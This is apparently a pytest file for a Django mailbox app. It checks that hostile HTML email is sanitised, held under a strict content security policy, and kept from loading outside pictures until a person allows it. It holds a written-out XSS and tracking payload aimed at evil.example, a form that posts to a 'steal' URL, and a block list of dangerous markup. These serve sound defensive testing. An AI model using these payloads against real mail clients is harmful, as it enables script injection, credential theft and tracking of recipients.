"""A mail opened: as it was sent, its files and what it holds. Nothing in it runs, and nothing loads unasked."""

import base64
import re
from datetime import timedelta
from email.message import EmailMessage
from io import BytesIO
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone
from PIL import Image

from kontuar.store.models import Attachment, Letter
from tests.shop import Shop
from tests.web.mailbox import Mailbox, mail, talk, there

pytestmark = pytest.mark.django_db


# HTML


HOSTILE = """<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)}</style>
<link rel="stylesheet" href="https://evil.example/c.css"></head><body onload="alert(1)" background="https://evil.example/d.png">
<script>alert(2)</script><img src=x onerror=alert(3)><svg onload=alert(4)><script>alert(5)</script></svg>
<a href="javascript:alert(6)">a</a><a href="data:text/html,<script>alert(7)</script>">b</a><a href=" jAvAsCrIpT:alert(8)">c</a>
<div style="position:fixed;top:0;left:0;width:expression(alert(9))">na wierzchu</div>
<form action="https://evil.example/steal"><input name=p><button formaction="javascript:alert(10)">ok</button></form>
<iframe src="https://evil.example" srcdoc="<script>alert(11)</script>"></iframe><object data="x"></object><embed src="x">
<img src="https://evil.example/pixel.gif"><img src="//evil2.example/p.gif"><math><mtext><style><img src onerror=alert(12)></style></mtext></math>
<a href="https://evil.example/x">allegro.pl</a><p>Dzień dobry</p></body></html>"""
NEVER = ("<script", "onerror", "onload", "javascript:", "<svg", "<base", "http-equiv=\"refresh", "@import", "url(", "expression",
         "position:", "<form", "<input", "<button", "formaction", "<iframe", "<object", "<embed", "<link", "srcdoc", "data:text")  # fmt: skip


def html_mail(html: str, **more: str) -> EmailMessage:
    made = mail("Dzień dobry, to samo tekstem", **more)
    made.add_alternative(html, subtype="html")
    return made


def body(page: str) -> str:
    return page[page.index("<body>") :]


def test_hostile_html_is_harmless_in_its_frame(box: Mailbox, ala: Client) -> None:
    letter = box.take(html_mail(HOSTILE).as_bytes())
    answer = ala.get(there(letter, "ramka/"))
    page = answer.content.decode()
    shown = body(page).lower()
    assert not [word for word in NEVER if word in shown]
    assert "style=" not in shown
    assert "dzień dobry" in shown
    assert "(evil.example)" in shown
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "sandbox allow-popups" in policy
    assert "script" not in policy
    assert "unsafe" not in policy
    assert "https:" not in policy
    assert "allow-same-origin" not in policy
    assert answer.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert answer.headers["Referrer-Policy"] == "no-referrer"


def test_a_huge_mail_of_tags_is_shown_in_bounded_time(box: Mailbox, ala: Client) -> None:
    began = timezone.now()
    letter = box.take(html_mail("<font><div>" * 100_000 + "koniec").as_bytes())
    assert ala.get(there(letter, "ramka/")).status_code == 200
    assert timezone.now() - began < timedelta(seconds=20)


def test_the_page_around_keeps_the_houses_policy(box: Mailbox, ala: Client) -> None:
    letter = box.take(html_mail(HOSTILE).as_bytes())
    for url in (f"/wiadomosci/{box.case.pk}/", there(letter), there(letter, "wyglad/")):
        answer = ala.get(url)
        policy = answer.headers["Content-Security-Policy"]
        assert "script-src 'self'" in policy
        assert "frame-src 'self'" in policy
        assert "unsafe" not in policy
        assert not re.search(r"<[^>]+\s(style|on[a-z]+)=", answer.content.decode())


def test_the_talk_shows_text_and_offers_the_look(box: Mailbox, ala: Client) -> None:
    letter = box.take(html_mail(HOSTILE).as_bytes())
    page = talk(ala, box)
    assert "to samo tekstem" in page
    assert "na wierzchu" not in page
    assert f'hx-get="{there(letter, "wyglad/")}"' in page
    frame = ala.get(there(letter, "wyglad/")).content.decode()
    found = re.search(r"<iframe[^>]*>", frame)
    assert found
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in found[0]
    assert 'referrerpolicy="no-referrer"' in found[0]


def test_pictures_of_others_wait_for_a_person_who_is_told_who_learns_of_it(
    box: Mailbox, ala: Client, shop: Shop
) -> None:
    letter = box.take(html_mail(HOSTILE).as_bytes())
    other = box.take(html_mail(HOSTILE, Subject="Inny").as_bytes())
    look = ala.get(there(letter, "wyglad/")).content.decode()
    assert "2 pictures of other servers were not loaded." in look
    assert "Whoever owns evil.example, evil2.example will learn" in look
    assert 'src="https://evil.example' not in ala.get(there(letter, "ramka/")).content.decode()

    assert ala.get(there(letter, "obrazki/")).status_code == 405
    answer = ala.post(there(letter, "obrazki/"))
    assert (answer.status_code, answer.headers["Location"]) == (303, there(letter))
    frame = ala.get(there(letter, "ramka/"))
    assert 'src="https://evil.example/pixel.gif"' in frame.content.decode()
    assert 'referrerpolicy="no-referrer"' in frame.content.decode()
    assert "img-src data: https:;" in frame.headers["Content-Security-Policy"]
    assert "https:" not in ala.get(there(other, "ramka/")).headers["Content-Security-Policy"]


def test_who_only_looks_cannot_let_pictures_in(box: Mailbox, shop: Shop) -> None:
    letter = box.take(html_mail(HOSTILE).as_bytes())
    bolek = Client()
    bolek.force_login(shop.bolek)
    assert "<button" not in bolek.get(there(letter, "wyglad/")).content.decode()
    bolek.post(there(letter, "obrazki/"))
    letter.refresh_from_db()
    assert letter.images_allowed_at is None


def picture(kind: str = "PNG", size: tuple[int, int] = (400, 300), **more: Any) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, "#125e6d").save(out, kind, **more)
    return out.getvalue()


def test_a_picture_within_the_text_is_made_anew_and_stands_in_the_frame(box: Mailbox, ala: Client) -> None:
    made = mail("tekst")
    made.add_alternative('<p>Zdjęcie: <img src="cid:one@x"></p>', subtype="html")
    made.get_payload()[1].add_related(picture(), "image", "png", cid="<one@x>")  # type: ignore[index,union-attr]
    letter = box.take(made.as_bytes())
    page = ala.get(there(letter, "ramka/")).content.decode()
    found = re.search(r'src="data:image/webp;base64,([^"]+)"', page)
    assert found
    with Image.open(BytesIO(base64.b64decode(found[1]))) as shown:
        assert shown.size == (400, 300)


def test_links_of_a_mail_that_pretends_lead_nowhere(box: Mailbox, ala: Client) -> None:
    letter = box.take(html_mail('<a href="https://evil.example/x">Zaloguj</a>').as_bytes())
    Letter.objects.filter(pk=letter.pk).update(looks_like="allegro")
    page = ala.get(there(letter, "ramka/")).content.decode()
    assert "Zaloguj" in page
    assert "href" not in body(page)


# Files


def test_a_file_says_its_kind_and_what_to_beware_of(box: Mailbox, ala: Client) -> None:
    made = mail("W załączniku")
    made.add_attachment(b"%PDF-1.7 x", maintype="application", subtype="pdf", filename="faktura.pdf")
    made.add_attachment(b"MZ\x90\0", maintype="image", subtype="png", filename="zdjecie.png")
    made.add_attachment(picture(), maintype="application", subtype="pdf", filename="skan.pdf")
    box.take(made.as_bytes())
    page = talk(ala, box)
    assert "PDF, 1 kB" in page
    assert "It can run as a program." in page
    assert "It says it is PDF, but its content is PNG." in page


def small(client: Client, box: Mailbox) -> Any:
    row = Attachment.objects.get(message__case=box.case)
    return client.get(f"/pliki/{row.pk}/mini/")


def attach(box: Mailbox, content: bytes, kind: str, name: str) -> Letter:
    made = mail("zdjęcie")
    made.add_attachment(content, maintype="image", subtype=kind, filename=name)
    return box.take(made.as_bytes())


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP"])
def test_a_picture_gets_a_small_one(box: Mailbox, ala: Client, kind: str, settings: Any) -> None:
    attach(box, picture(kind, (1200, 800)), kind.lower(), f"a.{kind.lower()}")
    assert "/mini/" in talk(ala, box)
    answer = small(ala, box)
    assert answer.headers["Content-Type"] == "image/webp"
    with Image.open(BytesIO(answer.content)) as shown:
        assert shown.size == (192, 128)
    assert len(list(settings.ATTACHMENTS_DIR.glob("small/*/*.webp"))) == 1
    assert small(ala, box).content == answer.content


def test_a_small_picture_is_turned_and_tells_nothing_of_its_maker(box: Mailbox, ala: Client) -> None:
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "Aparat Jana"
    attach(box, picture("JPEG", (1200, 800), exif=exif, comment=b"tajne"), "jpeg", "a.jpg")
    answer = small(ala, box)
    assert b"Aparat" not in answer.content
    with Image.open(BytesIO(answer.content)) as shown:
        assert shown.height > shown.width
        assert not dict(shown.getexif())


def test_a_bomb_of_pixels_has_no_small_picture(box: Mailbox, ala: Client) -> None:
    attach(box, picture("PNG", (12_000, 12_000)), "png", "bomba.png")
    assert small(ala, box).status_code == 404


def test_a_broken_picture_has_no_small_one(box: Mailbox, ala: Client) -> None:
    attach(box, picture()[:60], "png", "a.png")
    assert small(ala, box).status_code == 404


# What a mail holds


CALENDAR = (
    "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Odbiór zamka\r\nDTSTART:20261204T090000Z\r\n"
    "DTEND:20261204T100000Z\r\nLOCATION:ul. Przykładowa 5\r\nORGANIZER:mailto:jan@x.example\r\nEND:VEVENT\r\n"
    "END:VCALENDAR\r\n"
)


def test_an_invitation_is_readable_in_the_shops_zone(box: Mailbox, ala: Client) -> None:
    made = mail("Zapraszam")
    made.add_attachment(CALENDAR.encode(), maintype="text", subtype="calendar", filename="a.ics")
    letter = box.take(made.as_bytes())
    assert f'hx-get="{there(letter, "w-srodku/")}"' in talk(ala, box)
    page = ala.get(there(letter, "w-srodku/")).content.decode()
    for words in ("Odbiór zamka", "10:00–11:00", "ul. Przykładowa 5", "jan@x.example"):
        assert words in page


def test_a_mail_within_a_mail_is_readable(box: Mailbox, ala: Client) -> None:
    made = mail("Zobacz")
    made.add_attachment(mail("Treść wewnętrzna <b>", Subject="W środku"))
    letter = box.take(made.as_bytes())
    page = ala.get(there(letter, "w-srodku/")).content.decode()
    assert "W środku" in page
    assert "Treść wewnętrzna &lt;b&gt;" in page


def test_the_original_is_saved_byte_for_byte(box: Mailbox, ala: Client) -> None:
    raw = html_mail(HOSTILE).as_bytes()
    answer = ala.get(there(box.take(raw), "oryginal/"))
    assert answer.content == raw
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_what_could_not_be_decoded_is_marked(box: Mailbox, ala: Client) -> None:
    raw = (
        b"From: a@x.example\r\nDate: Fri, 20 Nov 2026 09:00:00 +0100\r\nContent-Type: image/png; name=a.png\r\n"
        b"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment\r\n\r\n!!!\x80\x81 nie base64\r\n"
    )
    letter = box.take(raw)
    page = ala.get(there(letter)).content.decode()
    assert ("could not be decoded, kept as it came" in page) == ("encoding_broken" in letter.troubles)


def test_a_letter_whose_file_is_gone_still_shows_its_words(box: Mailbox, ala: Client, settings: Any) -> None:
    letter = box.take(html_mail(HOSTILE).as_bytes())
    for path in settings.ATTACHMENTS_DIR.rglob("*.eml"):
        path.unlink()
    assert "to samo tekstem" in ala.get(there(letter)).content.decode()
    assert ala.get(there(letter, "oryginal/")).status_code == 502
    assert ala.get(there(letter, "ramka/")).status_code == 200


# Whose it is


def test_for_the_stranger_no_mail_exists(box: Mailbox, shop: Shop) -> None:
    letter = box.take(html_mail(HOSTILE).as_bytes())
    celina = Client()
    celina.force_login(shop.celina)
    for part in ("", "wyglad/", "ramka/", "w-srodku/", "oryginal/"):
        assert celina.get(there(letter, part)).status_code == 404
    assert celina.post(there(letter, "obrazki/")).status_code == 404
    assert letter.message
    assert celina.get(f"/wiadomosci/tresc/{letter.message.pk}/").status_code == 404
